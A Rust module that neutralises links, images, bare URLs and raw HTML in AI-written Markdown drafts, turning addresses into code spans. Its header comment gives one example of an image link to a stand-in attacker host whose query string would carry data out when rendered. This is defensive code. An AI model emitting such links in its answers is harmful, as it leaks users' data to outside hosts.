//! Links in a draft shown as text: an AI answer may carry links and images whose addresses
//! point elsewhere (`![x](https://evil.example/?q=…)`), which a Markdown viewer would load or
//! make clickable. Every export shows them as their label followed by the address in a code
//! span (`label (`https://…`)`), which no renderer turns into a link; raw HTML is escaped,
//! reference definitions and bare URLs become code spans. The rest of the Markdown is kept
//! byte for byte.

use std::ops::Range;

use pulldown_cmark::{Event, LinkType, Options, Parser, Tag, TagEnd};

/// The parser options every export reads drafts with.
pub(super) const OPTIONS: Options = Options::ENABLE_TABLES.union(Options::ENABLE_STRIKETHROUGH);

/// `markdown` with every link, image, autolink, reference definition, bare URL and piece of
/// raw HTML turned into text that shows it without linking to it.
pub(super) fn shown_as_text(markdown: &str) -> String {
    let parser = Parser::new_ext(markdown, OPTIONS);
    let mut edits: Vec<(Range<usize>, String)> = parser
        .reference_definitions()
        .iter()
        .map(|(label, def)| {
            let text = format!("\\[{label}\\]: {}", code_span(&def.dest));
            (def.span.clone(), text)
        })
        .collect();
    let mut open: Vec<OpenLink> = Vec::new();
    let mut in_code_block = false;
    for (event, range) in parser.into_offset_iter() {
        let ends_link = matches!(event, Event::End(TagEnd::Link | TagEnd::Image));
        if !ends_link && let Some(link) = open.last_mut() {
            link.widen(&range);
        }
        match event {
            Event::Start(Tag::Link {
                link_type,
                dest_url,
                ..
            }) => open.push(OpenLink {
                range,
                destination: dest_url.into_string(),
                image: false,
                autolink: matches!(link_type, LinkType::Autolink | LinkType::Email),
                inner: None,
            }),
            Event::Start(Tag::Image { dest_url, .. }) => open.push(OpenLink {
                range,
                destination: dest_url.into_string(),
                image: true,
                autolink: false,
                inner: None,
            }),
            Event::End(TagEnd::Link | TagEnd::Image) => {
                if let Some(link) = open.pop() {
                    link.edits(&mut edits);
                }
            }
            Event::Start(Tag::CodeBlock(_)) => in_code_block = true,
            Event::End(TagEnd::CodeBlock) => in_code_block = false,
            Event::Html(_) | Event::InlineHtml(_) => {
                edits.push((range.clone(), markdown[range].replace('<', "&lt;")))
            }
            Event::Text(_) if !in_code_block => bare_urls(markdown, range, &mut edits),
            _ => {}
        }
    }
    edits.sort_by_key(|(range, _)| range.start);
    let mut out = String::with_capacity(markdown.len());
    let mut copied = 0;
    for (range, text) in edits {
        // Edits never overlap; one that would is skipped rather than garbling the text.
        if range.start < copied {
            continue;
        }
        out.push_str(&markdown[copied..range.start]);
        out.push_str(&text);
        copied = range.end;
    }
    out.push_str(&markdown[copied..]);
    out
}

/// A link or image being read: its whole extent and the extent of its label.
struct OpenLink {
    range: Range<usize>,
    destination: String,
    image: bool,
    autolink: bool,
    inner: Option<Range<usize>>,
}

impl OpenLink {
    /// Takes in an event inside the label.
    fn widen(&mut self, range: &Range<usize>) {
        let inner = self.inner.get_or_insert(range.clone());
        inner.start = inner.start.min(range.start);
        inner.end = inner.end.max(range.end);
    }

    /// The edits that keep the label as it is written and replace the markup around it.
    fn edits(self, edits: &mut Vec<(Range<usize>, String)>) {
        let address = code_span(&self.destination);
        let address = if self.image {
            format!(" (image: {address})")
        } else {
            format!(" ({address})")
        };
        match self.inner {
            Some(_) if self.autolink => {
                edits.retain(|(range, _)| !contains(&self.range, range));
                edits.push((self.range, code_span(&self.destination)));
            }
            Some(inner) => {
                edits.push((self.range.start..inner.start, String::new()));
                edits.push((inner.end..self.range.end, address));
            }
            None => edits.push((self.range, address.trim_start().to_owned())),
        }
    }
}

fn contains(outer: &Range<usize>, inner: &Range<usize>) -> bool {
    outer.start <= inner.start && inner.end <= outer.end
}

/// Edits putting each word of `markdown[range]` that reads as a URL (contains `://` or
/// starts with `www.`) in a code span.
fn bare_urls(markdown: &str, range: Range<usize>, edits: &mut Vec<(Range<usize>, String)>) {
    let text = &markdown[range.clone()];
    let mut word_start = None;
    for (at, c) in text.char_indices().chain([(text.len(), ' ')]) {
        match (c.is_whitespace(), word_start) {
            (false, None) => word_start = Some(at),
            (true, Some(start)) => {
                word_start = None;
                let word = &text[start..at];
                if word.contains("://") || word.to_ascii_lowercase().starts_with("www.") {
                    let start = range.start + start;
                    edits.push((start..start + word.len(), code_span(word)));
                }
            }
            _ => {}
        }
    }
}

/// `text` as an inline code span, fenced by more backticks than it contains in a row.
fn code_span(text: &str) -> String {
    let longest = text.split(|c| c != '`').map(str::len).max().unwrap_or(0);
    let fence = "`".repeat(longest + 1);
    let pad = if text.starts_with('`') || text.ends_with('`') {
        " "
    } else {
        ""
    };
    format!("{fence}{pad}{text}{pad}{fence}")
}
